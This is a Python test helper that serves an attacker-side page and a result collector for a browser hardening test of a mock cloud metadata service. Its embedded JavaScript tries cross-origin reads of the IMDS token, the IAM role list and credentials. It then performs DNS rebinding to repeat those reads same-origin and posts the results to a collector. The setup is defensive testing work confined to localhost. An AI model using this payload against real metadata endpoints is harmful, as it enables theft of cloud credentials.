"""The attacker's side of the browser test: a page server and a report collector.

    python -m tests.hardening_browser page --port X --metamock M --collector C
    python -m tests.hardening_browser collector --port C --out FILE

The page (served from http://rebind.test:X/, mapped to 127.0.0.1 by Chromium's resolver rules)
first tries cross-origin reads of metamock on 127.0.0.1:M, plus a control read from the
collector (which allows CORS), and posts the results. Then it plays DNS rebinding: it polls its
own origin until the server behind rebind.test:X is no longer the attacker's (the test puts a
metamock there), and tries the token PUT and the credentials same-origin. Each phase is one JSON
line in FILE.
"""

from __future__ import annotations

import argparse
import asyncio
import json
from pathlib import Path

from aiohttp import web

PAGE = """<!doctype html><html><body><pre id="out">pending</pre><script>
const metamock = "http://127.0.0.1:%(metamock)d";
const collector = "http://127.0.0.1:%(collector)d";
const role = "/latest/meta-data/iam/security-credentials/";
function report(phase, results) {
  return fetch(collector + "/report", {method: "POST", mode: "no-cors",
    body: JSON.stringify({phase: phase, results: results})});
}
async function read(name, out, url, init) {
  try {
    const r = await fetch(url, init || {});
    out[name] = {status: r.status, body: (await r.text()).slice(0, 200)};
  } catch (e) { out[name] = {blocked: e.name}; }
}
const sleep = (ms) => new Promise((done) => setTimeout(done, ms));
(async () => {
  const cross = {};
  await read("put_token", cross, metamock + "/latest/api/token",
             {method: "PUT", headers: {"X-aws-ec2-metadata-token-ttl-seconds": "60"}});
  await read("role_list", cross, metamock + role);
  await read("credentials", cross, metamock + role + "metamock-local");
  await read("control", cross, collector + "/cors");
  await report("cross-origin", cross);
  for (let i = 0; i < 240; i++) {  // rebinding: wait until our origin is served by metamock
    let text = "attacker";
    try { text = await (await fetch("/probe", {cache: "no-store"})).text(); } catch (e) { text = "down"; }
    if (text !== "attacker" && text !== "down") break;
    await sleep(250);
  }
  const same = {};
  await read("put_token", same, "/latest/api/token",
             {method: "PUT", headers: {"X-aws-ec2-metadata-token-ttl-seconds": "60"}});
  await read("role_list", same, role);
  await read("credentials", same, role + "metamock-local");
  await report("rebound", same);
  document.getElementById("out").textContent = "done";
})();
</script></body></html>
"""


async def page(port: int, metamock: int, collector: int) -> None:
    body = PAGE % {"metamock": metamock, "collector": collector}

    async def handler(request: web.BaseRequest) -> web.Response:
        if request.path == "/probe":
            return web.Response(text="attacker", headers={"Cache-Control": "no-store"})
        return web.Response(text=body, content_type="text/html", headers={"Connection": "close"})

    await _serve(handler, port)


async def collect(port: int, out: Path) -> None:
    async def handler(request: web.BaseRequest) -> web.Response:
        if request.path == "/report":
            line = json.dumps(json.loads(await request.text()))
            with out.open("a") as f:
                f.write(line + "\n")
            return web.Response(text="ok")
        return web.Response(text="control-ok", headers={"Access-Control-Allow-Origin": "*"})

    await _serve(handler, port)


async def _serve(handler: web.Server | object, port: int) -> None:
    runner = web.ServerRunner(web.Server(handler, access_log=None))  # type: ignore[arg-type]
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", port).start()
    print("ready", flush=True)
    await asyncio.Event().wait()


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("role", choices=["page", "collector"])
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--metamock", type=int, default=0)
    parser.add_argument("--collector", type=int, default=0)
    parser.add_argument("--out", type=Path)
    args = parser.parse_args()
    if args.role == "page":
        asyncio.run(page(args.port, args.metamock, args.collector))
    else:
        asyncio.run(collect(args.port, args.out))


if __name__ == "__main__":
    main()
